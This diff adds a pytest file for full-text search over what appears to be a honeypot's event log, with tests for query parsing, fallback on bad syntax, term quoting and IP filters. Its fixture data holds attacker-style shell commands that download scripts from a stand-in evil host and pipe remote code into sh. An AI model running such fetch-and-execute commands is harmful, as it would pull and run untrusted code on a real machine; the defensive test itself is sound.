@@ -0,0 +1,48 @@
+# test_search.py - FTS5 payload search
+import sqlite3
+
+import pytest
+
+import db, search
+
+PAYLOADS = ["wget http://evil.example.com/x.sh -O /tmp/x.sh", "curl http://other.example.org/y | sh",
+            "uname -a", "wget http://evil.example.com/z.sh"]
+
+
+@pytest.fixture
+def conn(tmp_path, monkeypatch):
+    path = str(tmp_path / "hp_events.db")
+    monkeypatch.setattr(db, "DB_FILE", path)
+    db.init_db()
+    c = sqlite3.connect(path)
+    c.execute("INSERT INTO sessions (id, client_ip) VALUES ('s1', '203.0.113.1')")
+    c.executemany("INSERT INTO events (session_id, kind, payload, ts_epoch) VALUES ('s1', 'recv', ?, 0)",
+                  [(p,) for p in PAYLOADS])
+    c.commit()
+    search.rebuild(path)
+    c.row_factory = sqlite3.Row
+    yield c
+    c.close()
+
+def payloads(rows):
+    return sorted(r["payload"] for r in rows)
+
+
+def test_fts_query(conn):
+    assert payloads(search.search(conn, 'wget "evil.example.com"')) == [PAYLOADS[0], PAYLOADS[3]]
+    assert payloads(search.search(conn, "wget AND x")) == [PAYLOADS[0]]
+    hit = search.search(conn, "uname")[0]["snippet"]
+    assert f"{search.HIT_START}uname{search.HIT_END}" in hit
+
+def test_invalid_fts_syntax_falls_back_to_literal_words(conn):
+    # ':' and '/' are FTS5 syntax errors; searched as quoted words instead
+    assert payloads(search.search(conn, "http://evil.example.com/z.sh")) == [PAYLOADS[3]]
+    assert payloads(search.search(conn, "curl |")) == [PAYLOADS[1]]
+
+def test_quote_terms():
+    assert search.quote_terms('wget evil.example.com') == '"wget" "evil.example.com"'
+    assert search.quote_terms('say "hi" ev*') == '"say" """hi""" "ev"*'
+
+def test_extra_filters(conn):
+    rows = search.search(conn, "wget", where=["s.client_ip = ?"], params=["198.51.100.1"])
+    assert rows == []